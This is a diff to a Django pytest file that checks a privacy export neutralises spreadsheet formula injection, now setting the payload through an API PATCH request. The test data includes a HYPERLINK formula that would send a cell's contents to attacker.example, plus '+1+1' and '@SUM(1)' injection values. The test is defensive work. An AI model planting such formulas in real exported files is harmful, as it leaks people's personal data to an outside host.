@@ -13,7 +13,7 @@ from typing import Any
 import pytest
 import pyzipper
 import time_machine
-from django.test import override_settings
+from django.test import Client, override_settings
 from django.utils import timezone
 
 from salama.audit.models import AuditEntry
@@ -23,7 +23,7 @@ from salama.lib.spreadsheet import neutralise_cell
 from salama.notifications.models import Notification
 from salama.privacy import selectors
 from salama.privacy.models import ExportFile
-from tests.conftest import person_fields, register, signed_in
+from tests.conftest import bearer, person_fields, register, signed_in
 
 PASSWORD = "tulip river copper 42"
 
@@ -122,12 +122,20 @@ def test_highly_sensitive_fields_never_leave_in_an_export(world: Any) -> None:
 
 def test_formula_cells_are_neutralised(world: Any) -> None:
     formula = '=HYPERLINK("http://attacker.example/?d="&A2,"Click")'
-    register(
+    household = register(
         world,
         world.amc_block,
-        person_fields(origin_place=formula, origin_admin1="+1+1", father_name_latin="@SUM(1)"),
+        person_fields(origin_admin1="+1+1", father_name_latin="@SUM(1)"),
     )
     admin = world.user("admin")
+    person = household.members.get()
+    patched = Client().patch(  # set through the API, as the probe did
+        f"/api/v1/persons/{person.pk}",
+        data={"origin_place": formula},
+        content_type="application/json",
+        **bearer(admin),
+    )
+    assert patched.status_code == 200, patched.content
     rows = rows_of(download(admin, produce(admin)).getvalue())
     header, row = rows[0], rows[1]
     assert row[header.index("origin_place")] == "'" + formula
